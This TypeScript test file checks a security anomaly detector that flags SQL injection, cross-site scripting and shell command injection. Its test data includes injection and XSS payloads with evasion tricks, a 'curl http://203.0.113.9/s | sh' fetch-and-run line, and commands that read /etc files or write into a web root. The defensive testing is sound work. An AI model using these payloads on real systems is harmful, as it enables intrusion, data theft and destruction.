import { expect } from 'chai';
import { decodeForScan } from '../../src/platform/security/anomaly/decode';
import { scanValue } from '../../src/platform/security/anomaly/scan-value';
import { detectSql } from '../../src/platform/security/anomaly/sql';
import { fingerprint, lexSql } from '../../src/platform/security/anomaly/sql-lexer';
import { detectXss } from '../../src/platform/security/anomaly/xss';

/**
 * The three grammars on examples written for these tests (not taken from any published payload
 * list): attacks of each shape and evasion, and ordinary text with the same words and punctuation.
 */
const kinds = (v: string) => scanValue(decodeForScan(v, false)).map((h) => h.kind);
const sql = (v: string) => detectSql(v, /['"`]/.test(v));

describe('anomaly grammar: SQL lexer', () => {
  it('reduces a value to token classes, reading /*!…*/ bodies as code and closed comments as space', () => {
    expect(fingerprint(lexSql('7 UNION/**/SELECT name, 2 FROM staff'))).to.equal('nUSw,nkw');
    expect(fingerprint(lexSql('/*!40000 UNION*/ SELECT 3'))).to.equal('USn');
    expect(fingerprint(lexSql("x' AND 9=9 --", "'"))).to.equal('s&nonc');
    expect(fingerprint(lexSql('AVG(price) <> @limit'))).to.equal('f(w)ov');
  });

  it('finds injections in every context: as is, after a single, double or backtick quote', () => {
    for (const v of [
      '7 UNION SELECT login FROM staff',
      '7 union all select null,null',
      "nobody' OR 'q'='q",
      'nobody" OR "q"="q',
      "bob')) OR (('k'='k",
      "root'-- ",
      "x'; DROP TABLE invoices; --",
      '12; DELETE FROM invoices',
      '(SELECT pass FROM staff LIMIT 1)',
      '3 AND 77=77',
      "z' AND PG_SLEEP(4) IS NULL --",
      'IF(2=2,SLEEP(3),0)',
      "a' || (SELECT banner FROM v$version) || '",
      '44 ORDER BY 9--',
      'q` = `q` AND 1=1 AND `q',
      "' WAITFOR DELAY '0:0:4'--",
      'id FROM information_schema.columns',
      // appended after the page's own number: `WHERE id = 5` + value
      ' or 3=3--',
      ') or (7=7',
      ' WHERE 4=4 AND 4=5--',
      // the page's closing quote completes a one-word string, true to MySQL
      "nobody' or 'z",
      'SELECT * FROM staff',
      'EXEC master..xp_cmdshell',
    ]) {
      expect(sql(v), v).to.be.a('string');
      expect(kinds(v), v).to.include('sql_injection');
    }
  });

  it('leaves prose with SQL words, apostrophes and quotes alone', () => {
    for (const v of [
      'Please select the union plan and drop me a line by Friday',
      "I'd like to order by phone; is that OK?",
      "O'Reilly's \"Learning SQL\" (2nd ed.) — where's my copy?",
      'Union Square, San Francisco',
      'from 9 to 5 and 10 to 2 on weekends',
      "She said 'yes' or 'no' — I can't tell which",
      'The committee will select one winner (or two).',
      'Having 2 kids and 1 dog, we need the bigger car',
      'Delete from my cart: the red shoes',
      "Where's my parcel? (order 88)",
      'The "or" in her note confused me: refund or replace?',
      'select * is greyed out in the report builder',
      'or else what?',
    ])
      expect(kinds(v), v).to.deep.equal([]);
  });
});

describe('anomaly grammar: HTML tokenizer', () => {
  it('finds script-capable markup in content and in attribute contexts, after decoding', () => {
    for (const v of [
      '<SCRIPT SRC=//cdn.invalid/q.js></SCRIPT>',
      '<video poster=x oncanplay=go()>',
      '<a href=" jav&#x09;ascript:go()">link</a>',
      '<iframe srcdoc="&lt;b&gt;hi">',
      '<svg><desc>t</desc></svg>',
      '<math><mi xlink:href="javascript:go()">x</mi></math>',
      '<p style="width:expression(go())">',
      '" autofocus onfocus="go()',
      "' onmouseenter='go()",
      'x onpointerdown=go()',
      '%3Cdetails%20open%20ontoggle%3Dgo()%3E',
      'javascript:document.title=1',
      '<div style=x:expr\\65ssion(go())>',
      '<form action=//login.invalid><input name=pw type=password></form>',
    ]) {
      const d = decodeForScan(v, false);
      expect(detectXss(d, d.toLowerCase()), v).to.be.a('string');
    }
  });

  it('leaves text with <, >, quotes and plain markup alone', () => {
    for (const v of [
      'if a < b and c > d then call me',
      'I <3 this app',
      '<b>bold</b> and <i>italic</i> work in notes',
      '<a href="https://example.com/help">help</a>',
      'He said "one" and "only" once',
      'javascript: the definitive guide (7th edition)',
      'prompt (the agent) repeated the question',
    ])
      expect(kinds(v), v).to.not.include('xss');
  });
});

describe('anomaly grammar: shell', () => {
  it('finds commands reached through separators, substitution and redirection, with the usual evasions', () => {
    for (const v of [
      'files.zip; uname -a',
      'host.test | whoami',
      'a && curl http://203.0.113.9/s | sh',
      'z\nps aux',
      'v$(whoami)',
      'w`hostname`x',
      "k';cat${IFS}/etc/group;'",
      'n;c"a"t /etc/hosts',
      'n;w\\ho\\am\\i',
      'n;{ls,-la,/srv}',
      'n;$@ls -la',
      'x & w^h^o^a^m^i',
      'x | type C:\\Windows\\win.ini',
      'x; echo $((7*6))',
      'x; sleep 9',
      'x;${PATH%%u*}bin${PATH%%u*}id',
      'x; echo data > /var/www/html/n.php',
      "system('id -u')",
      // the value handed to system() whole
      'ls -la /opt',
      'uname -a',
      'cat /etc/group',
      'sleep 7',
      'ipconfig /all',
      '<!--#exec cmd="id" -->',
    ])
      expect(kinds(v), v).to.include('command_injection');
  });

  it('leaves prose with &, |, ;, $ and command-like words alone', () => {
    for (const v of [
      'Tom & Jerry; the cat and the mouse',
      'cats | dogs | birds',
      'It costs $5; cash only',
      'ping me later; I am in a meeting',
      'sort by date/time, then by name',
      'run `ls -la` in the folder and send a screenshot',
      'echo chamber',
      'find my order #4521 please',
      'net user count is 50',
      'sleep 7 hours a night',
      'set -up fee waived',
      'cat 5e cable',
    ])
      expect(kinds(v), v).to.not.include('command_injection');
  });
});

describe('anomaly grammar: bounded work on pathological input', () => {
  it('terminates with a correct answer on 100 KB of quotes, parentheses, backticks and tags', () => {
    const big = (unit: string) => unit.repeat(Math.ceil(100_000 / unit.length));
    for (const v of [big("'"), big('"'), big('('), big('`'), big('$('), big('<a '), big('/*'), big('\\'), big("' or "), big('{a,')]) {
      expect(() => scanValue(decodeForScan(v, false)), v.slice(0, 10)).to.not.throw();
    }
    expect(kinds(big('a'))).to.deep.equal([]);
    expect(kinds(big("x' OR 'y'='y "))).to.include('sql_injection');
    expect(kinds(`${'ab '.repeat(30_000)}<script>`), 'past the scanned prefix').to.not.include('xss');
  });
});
